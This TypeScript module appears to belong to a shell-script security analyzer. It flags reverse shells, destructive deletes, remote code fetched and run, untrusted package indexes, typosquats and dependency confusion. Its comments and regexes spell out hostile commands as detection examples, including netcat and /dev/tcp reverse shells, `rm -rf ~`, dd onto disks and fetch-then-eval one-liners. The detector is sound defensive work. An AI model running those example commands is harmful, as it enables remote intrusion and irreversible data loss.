/**
 * Pure: call shapes dangerous in themselves, over the IR, whatever flows
 * into them: reverse shells in every tool that makes one, destructive
 * deletes in every spelling, installs and runs from an address. Like the
 * flow engine, they read words after expansion, so `rm -r -f -- "$HOME"`,
 * `R=rm; $R -rf ~` and `find ~ -delete` are one shape.
 */
import { isCredentialPath } from '../files.ts';
import { hostsIn, isLocalHost } from '../network.ts';
import { containerGrants } from './containers.ts';
import { elicitsSecret } from './sampling.ts';
import { installOf, judgeAddress } from './install.ts';
import { checksOffFor, indexEnvironment, indexSettings, isIndexVariable, sourceText, UNCHECKED_SOURCE } from './registry.ts';
import { squatOf } from '../typosquat.ts';
import { internalPackage } from '../confusion.ts';
import type { IrFinding } from './flow.ts';
import { program } from './flow.ts';
import { homePath } from './places.ts';
import { protectionOff } from './protection.ts';
import { INTERPRETERS, PRECIOUS, RUNS_ADDRESS, SHELLS } from './tables.ts';
import { constantText, shownText, type Call, type Program, type Word } from './types.ts';

const SOCKET_DEVICE = /^\/dev\/(?:tcp|udp)\/[^/]+\/\d+/;
/** A remote forward's end on this machine that is a remote-control service: SSH, RDP, VNC, WinRM. */
const REMOTE_CONTROL = /(?:^|:)(?:22|3389|590\d|598[56])$/;
const SHELL_PATH = /(?:^|[/\s'"=:])(?:ba|z|k|da|a)?sh(?:\s+-i)?(?:$|[\s'",;)])|cmd(?:\.exe)?\b|powershell|pwsh/;

function reverseShell(call: Call, name: string | undefined, args: Word[], texts: Array<string | undefined>): boolean {
  const shown = args.map(shownText);
  const redirectsToSocket = [...(call.writes ?? []), ...(call.reads ?? [])].some((w) => SOCKET_DEVICE.test(shownText(w)));
  if (name !== undefined && (SHELLS.has(name) || INTERPRETERS.test(name)) && redirectsToSocket) return true;
  if (name === 'exec' && redirectsToSocket) return true;
  if (name !== undefined && /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(name)) {
    for (let i = 0; i < shown.length; i++) {
      const t = shown[i]!;
      if (/^-[a-zA-Z]*[ec]$|^--(?:sh-exec|exec|lua-exec)$/.test(t) && SHELL_PATH.test(` ${shown[i + 1] ?? ''} `)) return true;
      if (/^--(?:sh-exec|exec|lua-exec)=/.test(t)) return true;
    }
  }
  if (name === 'socat' && shown.some((t) => /^(?:exec|system):/i.test(t)) && shown.some((t) => /^(?:tcp|tcp4|tcp6|udp|openssl|ssl)[:-]/i.test(t))) return true;
  // Code given to an interpreter that opens a socket and hands it a shell or runs what it reads (Python, Perl, Ruby, PHP, Lua, Node, PowerShell).
  const code = texts.join(' ');
  if (name !== undefined && /^(?:[gmn]?awk|busybox)$/.test(name) && awkShell(code)) return true;
  if (name !== undefined && INTERPRETERS.test(name) && SOCKET_CODE.test(code) && RUNS_CODE.test(code)) return true;
  // `ssh -R 2222:localhost:22 host`: the remote host handed this machine's SSH server, a way back in (also its other
  // remote-control services: RDP 3389, VNC 5900–5909, WinRM 5985/5986).
  if (name === 'ssh') return shown.some((t, i) => (/^-[a-zA-Z]*R$/.test(t) ? REMOTE_CONTROL.test(shown[i + 1] ?? '') : /^-R./.test(t) && REMOTE_CONTROL.test(t)));
  // `xterm -display host:1`: a terminal, its shell inside, drawn on another machine's X server and typed into from there.
  if (name !== undefined && /^(?:xterm|uxterm|rxvt|urxvt)$/.test(name)) return shown.some((t, i) => /^-{1,2}display$/.test(t) && /^[A-Za-z0-9.-]+:\d+/.test(shown[i + 1] ?? '') && !isLocalHost(shown[i + 1]!.replace(/:.*$/, '')));
  return false;
}

/** A socket opened in code: Python's `socket`, Perl's `IO::Socket`, Ruby's `TCPSocket`, PHP's `fsockopen`, Lua's `socket.tcp`, Node's `net`, .NET's `TCPClient`, Go's `net.Dial`. */
const SOCKET_CODE = /socket|fsockopen|stream_socket_client|net\.connect|createConnection|new\s+\w*\.?Socket\b|TCPClient|net\.Dial|\/dev\/(?:tcp|udp)\//i;
/** A process run, a descriptor duplicated, or text evaluated: what turns a socket into a shell. */
const RUNS_CODE = /pty\.spawn|\bdup2?\b|fdopen|\/bin\/\w*sh\b|\bexec(?:ute|Sync|File)?\b|\bsystem\b|\bspawn\w*|\bpopen\b|proc_open|shell_exec|passthru|\biex\b|Invoke-Expression|cmd\.exe|Process\.Start|\bsh\s+-i\b/i;

/**
 * A shell or interpreter joined to a descriptor (`sh <&196 >&196`, `zsh >&$REPLY`) in a program that opened a
 * socket as one (`exec 196<>/dev/tcp/h/p`, zsh's `ztcp h p`): its input and output are the socket.
 */
function shellOnDescriptor(p: Program): Call[] {
  const calls = p.nodes.filter((n): n is Call => n.kind === 'call');
  const opens = calls.some((c) => {
    const { name, args } = program(c);
    if ([...(c.writes ?? []), ...(c.reads ?? [])].some((w) => SOCKET_DEVICE.test(shownText(w)))) return true;
    return name === 'ztcp' && args.length > 0 && !args.some((a) => constantText(a) === '-l') && !isLocalHost(shownText(args[0]!));
  });
  if (!opens) return [];
  // A shell or interpreter on the descriptor, or a command word computed at run time (`read l <&5; $l >&5`: what the socket sends, run).
  return calls.filter((c) => {
    const { name } = program(c);
    return (name === undefined || SHELLS.has(name) || INTERPRETERS.test(name)) && (c.descriptors?.length ?? 0) > 0;
  });
}

/** Interpreters with no front end (perl, php, lua, R, Tcl): code after `-e`/`-r`. */
const TEXT_ONLY = /^(?:perl|php[0-9.]*|lua[0-9.]*|luajit|tclsh|wish|Rscript|R|irb|osascript|expect|julia|elixir|groovy|gjs|qjs|guile|racket|erl|escript|[gmn]?awk)$/;
/** A fetch in code: a library call, or a download command the code runs (`io.popen("curl …")`, `"wget -qO- …" | getline`). */
const FETCHES = /\b(?:get|getstore|getprint|file_get_contents|fopen|curl_exec|urlopen|open|URI|Net::HTTP|HTTP::Tiny|LWP|http\.request|socket\.http|readLines|url|download\.file|http::geturl|curl|wget|HTTP\.get|Req\.get|download|Downloads|httpc|HTTPoison|URL|fetch|Soup)\b|\b(?:source|include|require)(?:_once)?\s*\(?\s*["']https?:/;
/** Text evaluated as code, or run by a shell (`system(l)` of a line read from a download). */
const EVALUATES = /\b(?:eval|instance_eval|class_eval|module_eval|loadstring|dostring|create_function|system)\b|\bload\s*\(|\bsource\s*\(|\beval\s*\(\s*parse\b|\b(?:include|require)(?:_once)?\s*\(?\s*["']https?:|Meta\.parse|Code\.eval_string|include_string|\binclude\s*\(|\bevaluate\s*\(|GroovyShell|spawn_command_line\w*|os\.execute/;

/**
 * One line of an interpreter the analyzer has no parser for that fetches an
 * address and evaluates text (`perl -e 'my $c = get(URL); eval $c'`,
 * `php -r '$c = file_get_contents(URL); eval($c);'`, `Rscript -e
 * 'source("https://…")'`, `lua -e 'load(io.popen("curl …"):read("*a"))()'`,
 * awk's `"curl …" | getline l` then `system(l)`): in a one-line program both
 * together are the download run as code.
 */
function fetchesAndEvals(name: string | undefined, texts: Array<string | undefined>): boolean {
  if (name === undefined || !TEXT_ONLY.test(name)) return false;
  const flag = texts.findIndex((t) => t !== undefined && /^-[a-zA-Z]*[eErR]$|^--eval$/.test(t));
  const code = flag >= 0 ? texts[flag + 1] : /awk$/.test(name) ? texts.find((t) => t !== undefined && !t.startsWith('-')) : undefined;
  if (code === undefined || !hostsIn(code).some((h) => !isLocalHost(h))) return false;
  return FETCHES.test(code) && EVALUATES.test(code);
}

/**
 * A JavaScript runtime told to load a module before the program from an address, or from a `data:` URL that
 * imports one (`node --import https://…`, `node --import 'data:text/javascript,import "https://…"'`, `-r`,
 * `--loader`): the download runs as code before anything the command names.
 */
function loadsRemoteModule(name: string | undefined, texts: Array<string | undefined>): boolean {
  if (name === undefined || !/^(?:node|nodejs|bun|deno|tsx|ts-node)$/.test(name)) return false;
  return texts.some((t, i) => {
    const m = t === undefined ? null : /^(?:--import|--require|-r|--loader|--experimental-loader|--preload)(?:=(.+))?$/.exec(t);
    const value = m ? m[1] ?? texts[i + 1] : undefined;
    if (value === undefined) return false;
    const decoded = (() => { try { return decodeURIComponent(value); } catch { return value; } })();
    return /^(?:https?:|data:)/i.test(decoded) && hostsIn(decoded).some((h) => !isLocalHost(h));
  });
}

/**
 * awk's special files `/inet/tcp/<local>/<host>/<port>` are sockets (gawk): a
 * program that opens one and runs what it reads, as a co-process (`c |& getline`
 * of a value other than the socket), through `system()` or a shell, is a shell
 * on that socket, bound or reverse.
 */
function awkShell(code: string): boolean {
  if (!/\/inet[46]?\/(?:tcp|udp)\/[^/"'\s]+\/[^/"'\s]+\/[^/"'\s]+/.test(code)) return false;
  if (/\bsystem\s*\(|\|&?\s*"(?:\/bin\/)?(?:ba|z|da)?sh\b/.test(code)) return true;
  const sockets = new Set([...code.matchAll(/(\w+)\s*=\s*"\/inet/g)].map((m) => m[1]!));
  return [...code.matchAll(/(\w+)\s*\)?\s*\|&?\s*getline/g)].some((m) => !sockets.has(m[1]!));
}

const SOCKET_TOOL = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|socat|openssl|cryptcat|sbd)$/;

/** A shell whose input comes from a socket tool or whose output goes into one (`cat f | sh -i | nc h p > f`, `telnet h p | sh | telnet h p2`). */
function shellOnSocket(p: Program): Call[] {
  const calls = new Map<number, Call>();
  const feeds = new Map<number, Call[]>();
  for (const n of p.nodes) {
    if (n.kind !== 'call') continue;
    calls.set(n.id, n);
    for (const w of n.stdin ?? []) for (const part of w.parts) if ('ref' in part && 'out' in part.ref) feeds.set(part.ref.out, [...(feeds.get(part.ref.out) ?? []), n]);
  }
  const isSocket = (c: Call | undefined) => {
    if (!c) return false;
    const { name, args } = program(c);
    return name !== undefined && SOCKET_TOOL.test(name) && (name !== 'openssl' || args.some((a) => constantText(a) === 's_client'));
  };
  const found: Call[] = [];
  for (const c of calls.values()) {
    const { name, args } = program(c);
    if (name === undefined || !SHELLS.has(name) || args.some((a) => !(constantText(a) ?? 'x').startsWith('-'))) continue;
    const from = (c.stdin ?? []).flatMap((w) => w.parts).map((part) => ('ref' in part && 'out' in part.ref ? calls.get(part.ref.out) : undefined));
    if (from.some(isSocket) || (feeds.get(c.id) ?? []).some(isSocket)) found.push(c);
  }
  return found;
}

/**
 * `… | xargs rm -rf`: the operands come from the input. With a replacement
 * string (`xargs -I{} rm -rf ~/{}`) the operand stands for every name
 * listed (`~/*`); fed by `find` of a precious tree, every file in it.
 */
function xargsDeletes(call: Call, name: string | undefined, args: Word[], calls: ReadonlyMap<number, Call>): boolean {
  if (name !== 'rm' && name !== 'shred' && name !== 'unlink') return false;
  const words = [call.callee, ...call.args].map(constantText);
  const at = words.findIndex((w, i) => i < 4 && w !== undefined && w.split('/').pop() === 'xargs');
  if (at < 0) return false;
  let replace: string | undefined;
  for (let j = at + 1; j < words.length; j++) {
    const t = words[j];
    if (t === undefined || !t.startsWith('-')) break;
    if (t === '-I') replace = words[j + 1];
    else if (/^-I./.test(t)) replace = t.slice(2);
    else if (t === '-i' || t === '--replace') replace = '{}';
    else if (/^(?:-i|--replace=)./.test(t)) replace = t.replace(/^(?:-i|--replace=)/, '');
  }
  const operands = args.filter((a) => !/^-/.test(constantText(a) ?? ''));
  if (replace && operands.some((a) => PRECIOUS.test(homePath(a).split(replace!).join('*')))) return true;
  const producers = (call.stdin ?? []).flatMap((w) => w.parts).flatMap((p) => ('ref' in p && 'out' in p.ref ? [calls.get(p.ref.out)] : []));
  return producers.some((c) => {
    if (!c) return false;
    const p = program(c);
    const starts = p.args.filter((a) => !/^-/.test(constantText(a) ?? '')).slice(0, p.name === 'find' ? 1 : undefined);
    if (p.name === 'find') return starts.some((a) => PRECIOUS.test(homePath(a)));
    return printedPaths(c, calls).some((a) => PRECIOUS.test(homePath(a)));
  });
}

/**
 * The paths a call prints, when they are known from its words: `echo ~`, `printf '%s\0' "$HOME"` print their
 * operands; the sixth field of the account database (`getent passwd "$USER" | cut -d: -f6`, `awk -F: '{print $6}'
 * /etc/passwd`) is a home folder. Filters that pass lines on (`head`, `sort`, `tr`) print what they are given.
 */
function printedPaths(c: Call, calls: ReadonlyMap<number, Call>, depth = 0): Word[] {
  const { name, args } = program(c);
  const texts = args.map(constantText);
  const operands = args.filter((_, i) => texts[i] === undefined || !texts[i]!.startsWith('-'));
  if (name === 'echo') return operands;
  if (name === 'printf') return operands.slice(1);
  const upstream = () => (depth > 4 ? [] : (c.stdin ?? []).flatMap((w) => w.parts).flatMap((p) => ('ref' in p && 'out' in p.ref && calls.get(p.ref.out) ? [calls.get(p.ref.out)!] : [])));
  const accounts = (from: Call[]) => texts.some((t) => t !== undefined && /^\/etc\/passwd$/.test(t)) || from.some((u) => { const q = program(u); return q.name === 'getent' && constantText(q.args[0] ?? { parts: [] }) === 'passwd'; });
  const sixth = name === 'cut' ? texts.some((t, i) => /^(?:-f6|--fields=6)$/.test(t ?? '') || (t === '-f' && texts[i + 1] === '6')) : name !== undefined && /awk$/.test(name) && texts.some((t) => t !== undefined && /print\s*\$6\b/.test(t));
  if (sixth && accounts(upstream())) return [{ parts: [{ ref: { env: 'HOME' } }] }];
  if (name !== undefined && /^(?:head|tail|sort|uniq|tr|cat|tee)$/.test(name)) return upstream().flatMap((u) => printedPaths(u, calls, depth + 1));
  return [];
}

const DISK = /^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk)/;

/**
 * A path whose unknown leading value falls back to the home folder (`process.env.DIR || homedir()`,
 * `${DIR:-$HOME}`): the word with those leading unknown parts dropped, when what follows is the home folder;
 * else the word itself (`"$BUILD"/*` stays a folder the script set).
 */
function fallback(w: Word): Word {
  const at = w.parts.findIndex((p) => !('ref' in p) || ('env' in p.ref && /^(?:HOME|USERPROFILE)$/.test(p.ref.env)));
  if (at <= 0) return w;
  const rest = w.parts.slice(at);
  const first = rest[0]!;
  return 'ref' in first || /^(?:~|\$HOME\b|\$\{HOME\})/.test(first.lit) ? { parts: rest } : w;
}

/**
 * A word naming a disk device (`/dev/sda`, `of=/dev/nvme0n1`), or a device whose name is chosen at run time
 * (`of=/dev/$disk` after `disk=$(lsblk -dno NAME | head -1)`): the script does not say which device it writes, and
 * what `/dev/` holds beside the disks (`null`, `zero`, a tty) is written by name.
 */
function onDisk(w: Word, prefix = ''): boolean {
  const text = constantText(w);
  if (text !== undefined) return text.startsWith(prefix) && DISK.test(text.slice(prefix.length));
  const [head, next] = w.parts;
  return head !== undefined && 'lit' in head && head.lit === `${prefix}/dev/` && next !== undefined && 'ref' in next;
}

/** A chmod mode that leaves the owner no read: `000`, `0`, `a-rwx`, `u-r`, `ugo=`, `a=x`. */
function ownerLocked(mode: string): boolean {
  if (/^[0-7]+$/.test(mode)) return Number.parseInt(mode.slice(-3).padStart(3, '0')[0]!, 8) < 4;
  return mode.split(',').some((clause) => {
    const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(clause);
    return m !== null && (m[1] === '' || /[ua]/.test(m[1]!)) && ((m[2] === '-' && m[3]!.includes('r')) || (m[2] === '=' && !m[3]!.includes('r')));
  });
}

/** Deletes of a precious tree: `rm -r` of `/`, `~`, `$HOME` (any flag order, `--`), `find ~ -delete`, `dd`/`mkfs` onto a disk. */
function destructive(name: string | undefined, args: Word[], texts: Array<string | undefined>, here?: Word): boolean {
  const precious = (w: Word) => PRECIOUS.test(homePath(w)) || PRECIOUS.test(homePath(fallback(w)));
  // `git --work-tree="$HOME" clean -ffdx`, `git -C ~ clean -fdx`: every file git does not track there is deleted.
  if (name === 'git' && texts.includes('clean') && texts.some((t) => t !== undefined && /^(?:-[a-zA-Z]*f[a-zA-Z]*|--force)$/.test(t))) {
    const tree = (a: Word): Word | undefined => (a.parts[0] && 'lit' in a.parts[0] && a.parts[0].lit.startsWith('--work-tree=') ? { parts: [{ lit: a.parts[0].lit.slice(12) }, ...a.parts.slice(1)] } : undefined);
    const placedAt = args.some((a, i) => texts[i - 1] === '-C' || texts[i - 1] === '--work-tree' || tree(a) !== undefined);
    // With no tree named, git cleans the folder it runs in: `cd ~ && git init && git clean -ffdx` empties the home folder.
    if (!placedAt) return here !== undefined && precious(here);
    return args.some((a, i) => ((texts[i - 1] === '-C' || texts[i - 1] === '--work-tree') && precious(a)) || (tree(a) !== undefined && precious(tree(a)!)));
  }
  if (name === 'rm') {
    const flags = texts.filter((t) => t !== undefined && /^-/.test(t) && t !== '--');
    const recursive = flags.some((f) => /^-[a-zA-Z]*[rR]|^--recursive$/.test(f!));
    if (flags.some((f) => f === '--no-preserve-root')) return true;
    const operands = args.filter((a, i) => !(texts[i] !== undefined && /^-/.test(texts[i]!)));
    // `rm -f ~/.ssh/*`: every file of a precious folder, no `-r` needed for its files.
    return (recursive && operands.some(precious)) || operands.some((a) => /\/\*$/.test(homePath(a)) && precious(a) && homePath(a) !== '/*');
  }
  // `truncate -s 0 ~/.ssh/*`: every file of a key store or of the documents emptied in place.
  if (name === 'truncate' && texts.some((t, i) => (t === '-s' && /^0+$/.test(texts[i + 1] ?? '')) || /^(?:-s0+|--size=0+)$/.test(t ?? ''))) return args.some((a) => /\/\*$/.test(homePath(a)) && precious(a));
  if (name === 'find') {
    const start = args.filter((_, i) => texts[i] === undefined || !/^-/.test(texts[i]!)).slice(0, 1);
    const deletes = texts.some((t) => t === '-delete') || texts.some((t, i) => t === '-exec' && /^(?:rm|shred)$/.test(texts[i + 1] ?? ''));
    // `find ~/projects -name node_modules -prune -exec rm -rf {} +`: a name test without a wildcard picks that one name's copies, not the tree.
    const oneName = texts.some((t, i) => /^-i?name$/.test(t ?? '') && texts[i + 1] !== undefined && /^[\w.-]+$/.test(texts[i + 1]!));
    return deletes && !oneName && start.some(precious);
  }
  if (name === 'shred') return args.some((a) => onDisk(a));
  if (name !== undefined && /^mkfs(?:\.\w+)?$/.test(name)) return texts.some((t) => t !== undefined && /^\/dev\//.test(t)) || args.some((a) => onDisk(a));
  if (name === 'dd') return args.some((a) => onDisk(a, 'of='));
  // Tools that wipe a disk's signatures, partition table or blocks.
  if (name !== undefined && /^(?:wipefs|blkdiscard|sgdisk)$/.test(name)) return args.some((a) => onDisk(a)) && (name !== 'sgdisk' || texts.some((t) => t !== undefined && /^(?:-Z|--zap-all|-o|--clear)$/.test(t)));
  // `chmod -R 000 ~`, `chmod -R a-rwx "$HOME"`: every file of the tree made unreadable to its owner (`go-rwx` keeps the owner's).
  if (name === 'chmod' && texts.some((t) => t !== undefined && /^(?:-[a-zA-Z]*R[a-zA-Z]*|--recursive)$/.test(t))) {
    const at = texts.findIndex((t) => t !== undefined && !/^-[a-zA-Z]+$|^--/.test(t));
    return at >= 0 && ownerLocked(texts[at]!) && args.some((a, i) => i > at && precious(a));
  }
  // `tar --remove-files -cf /dev/null ~` (or `-C / home/"$USER"`): every file archived is deleted once it is written.
  if (name === 'tar' && texts.includes('--remove-files')) {
    const dir = texts.findIndex((t) => t === '-C' || t === '--directory');
    const inDir = (a: Word): Word => (dir < 0 || /^[/~]/.test(constantText({ parts: a.parts.slice(0, 1) }) ?? '/') ? a : { parts: [...args[dir + 1]!.parts, ...(texts[dir + 1]?.endsWith('/') ? [] : [{ lit: '/' }]), ...a.parts] });
    return args.some((a, i) => i !== dir + 1 && !/^-/.test(texts[i] ?? '') && !/^(?:\/dev\/null|-)$/.test(texts[i] ?? '') && precious(inDir(a)));
  }
  // `mv ~ /dev/null`: the folder moved onto nothing is gone.
  if (name === 'mv' && texts[texts.length - 1] === '/dev/null') return args.slice(0, -1).some(precious);
  // `parted -s /dev/sda mklabel gpt`: a new partition table, every partition of the disk gone.
  if (name === 'parted') return args.some((a) => onDisk(a)) && texts.some((t) => t !== undefined && /^(?:mklabel|mktable|rm)$/.test(t));
  if (name === 'diskutil') return texts.some((t) => t !== undefined && /^(?:erase\w*|zeroDisk|randomDisk|secureErase|partitionDisk)$/.test(t));
  // `rsync -a --delete empty/ ~/`: the destination made like an empty folder.
  if (name === 'rsync' && texts.some((t) => t !== undefined && /^--delete/.test(t))) return args.length > 0 && precious(args[args.length - 1]!);
  return false;
}

/** Options whose value is a package index for this install, not a package: pip's and uv's, npm's, gem's, conda's, dotnet's, cargo's. */
const INDEX_OPTION = /^(?:-i|-f|-c|-s|--index-url|--extra-index-url|--index|--default-index|--find-links|--registry|--source|--add-source|--channel)$/;

/**
 * A relative operand read in the folder the script moved to (`cd ~ && rm -rf ./*`, `cd "$HOME"; rm -rf *`,
 * `pushd ~; rm -rf -- *`): the folder joined before it, so a delete of everything there is judged as written out.
 */
function inFolder(here: Word | undefined, w: Word): Word {
  const head = w.parts[0];
  if (here === undefined || !head || !('lit' in head) || /^[/~-]/.test(head.lit)) return w;
  if (w.parts.length === 1 && /^\.\/?$/.test(head.lit)) return here;
  const rest = head.lit.replace(/^(?:\.\/)+/, '');
  return { parts: [...here.parts, { lit: `/${rest}` }, ...w.parts.slice(1)] };
}

/** The folder a `cd`/`pushd` moves to (a bare `cd` is the home folder); undefined when unknown or `popd`. */
function movedTo(name: string | undefined, args: Word[], here: Word | undefined): Word | undefined {
  if (name === 'popd') return undefined;
  if (name !== 'cd' && name !== 'pushd') return here;
  const operands = args.filter((a) => !/^-[LPe@]*$/.test(constantText(a) ?? '') || constantText(a) === '-');
  if (operands.length === 0) return { parts: [{ lit: '~' }] };
  const to = operands[0]!;
  const text = constantText(to);
  if (text === '-' || operands.length > 1) return undefined;
  return text !== undefined && !/^[/~]/.test(text) ? (here ? inFolder(here, to) : undefined) : to;
}

export function shapeFindings(p: Program): IrFinding[] {
  const found: IrFinding[] = [];
  let here: Word | undefined;
  const calls = new Map(p.nodes.flatMap((n) => (n.kind === 'call' ? [[n.id, n] as const] : [])));
  for (const c of [...shellOnSocket(p), ...shellOnDescriptor(p)]) found.push({ rule: 'reverse-shell', origin: c.origin, evidence: [c.callee, ...c.args].map(shownText).join(' ') });
  for (const node of p.nodes) {
    // `export PIP_INDEX_URL=…`: every later install of the script (and of whatever it starts) comes from there.
    if (node.kind === 'assign' && isIndexVariable(node.name)) {
      const verdict = judgeAddress(shownText(node.value));
      if (verdict) found.push({ rule: verdict.rule, origin: node.origin, evidence: `${node.name}=${shownText(node.value)}`, note: verdict.note, ...(node.later ? { later: true } : {}) });
    }
    if (node.kind !== 'call') continue;
    const { name, args } = program(node);
    const texts = args.map(constantText);
    const evidence = [program(node).callee, ...program(node).args].map(shownText).join(' ').slice(0, 200);
    const add = (rule: IrFinding['rule'], weak = false) => found.push({ rule, origin: node.origin, evidence, ...(weak ? { weak } : {}), ...(node.later ? { later: true } : {}) });
    if (reverseShell(node, name, args, texts)) add('reverse-shell');
    here = movedTo(name, args, here);
    // find's start folders come before its expression (`-name .DS_Store` names no path).
    const paths = name === 'find' ? texts.findIndex((t) => t !== undefined && /^[-(!]/.test(t)) : args.length;
    const placed = here === undefined || !/^(?:rm|find|shred|truncate|rsync)$/.test(name ?? '') ? args : args.map((a, i) => (paths < 0 || i < paths ? inFolder(here, a) : a));
    // Any program's output written onto a disk device (`head -c 1G /dev/urandom > /dev/nvme0n1`) overwrites it.
    const ontoDisk = (node.writes ?? []).some((w) => onDisk(w));
    if (ontoDisk || destructive(name, placed, placed.map(constantText), here) || xargsDeletes(node, name, args, calls)) add('destructive-delete');
    if (fetchesAndEvals(name, texts) || loadsRemoteModule(name, texts)) add('pipe-to-shell');
    found.push(...containerGrants(node, name, args, evidence), ...elicitsSecret(node));
    if (protectionOff(node, name) !== undefined) add('protection-off');
    // `mshta https://…`, `regsvr32 /i:https://… scrobj.dll`: code fetched from a remote address and run by Windows itself.
    // Not `rundll32 url.dll,FileProtocolHandler https://…`: the address opened in the default browser (how Go and Python open a page on Windows).
    const opensBrowser = /^url\.dll,(?:FileProtocolHandler|OpenURL)$/i.test(shownText(args[0] ?? { parts: [] })) && !args.some((a) => /\.(?:hta|exe|scr|sct|js|jse|vbs|vbe|wsf|ps1|bat|cmd|dll|msi|lnk)(?:[?#]|$)/i.test(shownText(a)));
    if (name !== undefined && RUNS_ADDRESS.test(name) && !opensBrowser && args.some((a) => /https?:\/\//i.test(shownText(a)) && hostsIn(shownText(a)).some((h) => !isLocalHost(h)))) add('pipe-to-shell');
    // An address installed from is an advisory naming it; one run straight away (`deno run <url>`,
    // `npm exec <url>`) is a download run as code.
    const install = installOf(name, args);
    const judged = (address: Word, rule?: IrFinding['rule'], installed = false) => {
      const verdict = judgeAddress(shownText(address));
      if (verdict) found.push({ rule: rule ?? verdict.rule, origin: node.origin, evidence, note: verdict.note, ...(node.later ? { later: true } : {}), ...(installed ? { installedFrom: verdict.host } : {}) });
    };
    // `helm repo add n <url>` chooses a chart index for later installs, as `npm config set registry` does, and so does an index
    // given to this install (`--index-url URL`, `--registry=URL`): judged as an index, not as a package installed from the address.
    const chartIndex = name === 'helm' && texts[0] === 'repo';
    const words = install?.words ?? [];
    const index = (address: Word) => {
      const i = words.indexOf(address);
      return INDEX_OPTION.test(shownText(address).replace(/=.*$/s, '')) || (i > 0 && INDEX_OPTION.test(constantText(words[i - 1]!) ?? ''));
    };
    // `go install host/path@v` names a module the Go module mirror serves and the checksum database vouches for: its host is a name,
    // not a server the code is downloaded from, so an unknown host there (`honnef.co`) is no stranger (a look-alike still blocks).
    const moduleName = name === 'go';
    // An index whose certificate checks this install turns off (`--trusted-host` its host) is as plain http: whoever is on the path serves it.
    const checksOff = (address: Word) => index(address) && checksOffFor(hostsIn(shownText(address))[0], words.map(constantText));
    for (const address of install?.addresses ?? []) judged(address, install!.runs && judgeAddress(shownText(address)) ? 'pipe-to-shell' : checksOff(address) ? 'install-untrusted' : undefined, !chartIndex && !index(address) && !moduleName);
    // A package index set for every later install (a setting, or the environment of this install): judged as an address installed from.
    // Written with its signature checks off (`deb [trusted=yes] …`, `gpgcheck=0`): nobody vouches for what it installs.
    const unchecked = UNCHECKED_SOURCE.test(sourceText(node, name, args) ?? '') ? 'install-untrusted' : undefined;
    for (const address of [...indexSettings(node, name, args), ...(install ? indexEnvironment(node.named) : [])]) judged(address, unchecked);
    // A name one letter or an affix from a popular package of the same registry: what a squatter publishes.
    if (install?.ecosystem) {
      // A company's own package with no index given to this install: the public registry serves it (the driver drops it when the component sets a registry anywhere).
      const indexed = words.some(index) || indexEnvironment(node.named).length > 0;
      for (const name of install.packages) {
        const squat = squatOf(name, install.ecosystem);
        if (squat) found.push({ rule: 'typosquat', origin: node.origin, evidence, note: squat.says, ...(node.later ? { later: true } : {}) });
        const internal = squat || indexed ? undefined : internalPackage(name, install.ecosystem);
        if (internal) found.push({ rule: 'dependency-confusion', origin: node.origin, evidence, note: internal, ...(node.later ? { later: true } : {}) });
      }
    }
    // `shred` of a credential folder or a disk destroys what cannot be restored.
    if (name === 'shred' && args.some((a) => /^~\/\.(?:ssh|aws|gnupg|kube)(?:\/|$)/.test(homePath(a)) || isCredentialPath(homePath(a).replace(/\/+\*?$/, '')))) add('destructive-delete');
  }
  return found;
}
